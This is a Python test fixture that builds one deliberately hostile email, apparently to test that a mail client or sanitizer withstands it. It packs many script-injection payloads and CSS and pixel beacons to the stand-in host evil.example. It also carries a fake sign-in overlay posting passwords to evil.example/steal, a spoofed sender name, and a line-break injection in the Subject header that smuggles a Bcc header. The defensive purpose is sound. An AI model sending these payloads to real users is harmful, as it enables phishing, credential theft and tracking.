"""A letter that tries everything a hostile letter tries."""

from datetime import datetime
from email.utils import format_datetime

_BOUNDARY = "=_hostile"

_HTML = """<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/moved">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css");
 .overlay { position: fixed; inset: 0; z-index: 2147483647; background: #fff; }
 body { background: url("https://evil.example/background.gif"); }
 input[value^="a"] { background: url(https://evil.example/typed-a); }</style></head>
<body onload="alert('load')"><script>alert("script")</script>
<img src="x" onerror="alert('error')">
<img src="https://evil.example/pixel.gif" width="1" height="1">
<img srcset="https://evil.example/large.gif 2x" alt="">
<svg onload="alert('svg')"><script>alert("svg")</script><use href="https://evil.example/u.svg#a"/>
</svg><math><mtext></mtext><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
</math><iframe src="https://evil.example/" srcdoc="<script>alert('frame')</script>"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<div class="overlay" style="position: fixed; top: 0; left: 0; width: 100%; height: 100%">
<h1>Your session has ended</h1><form action="https://evil.example/steal" method="post">
<input name="password" type="password" placeholder="Password"><button>Sign in</button></form></div>
<a href="javascript:alert('link')">Your invoice</a> <a href="JaVa&#9;Script:alert(1)">here</a>
<a href="data:text/html,<script>alert('data')</script>">open</a>
<a href="https://evil.example/" target="_top">https://riverside-bank.example/sign-in</a>
<p style="background-image: url('https://evil.example/inline.gif'); width: expression(alert(1))">
Dear customer, your account will be closed.</p><table background="https://evil.example/t.gif"><tr>
<td>Act now.</td></tr></table><video poster="https://evil.example/p.jpg" autoplay></video>
</body></html>"""


def write_hostile(when: datetime) -> bytes:
    """Write the letter; it is made by hand, because no library would make it."""
    lines = (
        # A name that shows another address, and markup in every field that is shown.
        'From: "<img src=x onerror=alert(1)> security@riverside-bank.example"'
        " <phisher@evil.example>",
        'Reply-To: "Riverside Savings Bank" <answers@evil.example>',
        "To: ada@satchel.example",
        # The encoded word holds a line break with a header behind it, and markup.
        "Subject: =?utf-8?q?Urgent=3A_=3Cscript=3Ealert=281=29=3C/script=3E?="
        " =?utf-8?q?=0D=0ABcc=3A_ben=40satchel=2Eexample?=",
        f"Date: {format_datetime(when)}",
        f"Message-ID: <hostile-{when:%Y%m%d%H%M}@evil.example>",
        "MIME-Version: 1.0",
        "List-Unsubscribe: <javascript:alert(1)>",
        f'Content-Type: multipart/mixed; boundary="{_BOUNDARY}"',
        "",
        f"--{_BOUNDARY}",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: 8bit",
        "",
        *_HTML.split("\n"),
        f"--{_BOUNDARY}",
        'Content-Type: text/html; name="invoice.html"',
        'Content-Disposition: attachment; filename="<b onmouseover=alert(1)>invoice</b>.html"',
        "Content-Transfer-Encoding: 7bit",
        "",
        "<script>alert(document.domain)</script>",
        f"--{_BOUNDARY}",
        'Content-Type: image/svg+xml; name="picture.svg"',
        'Content-Disposition: inline; filename="picture.svg"',
        "",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
        f"--{_BOUNDARY}--",
        "",
    )
    return "\r\n".join(lines).encode()
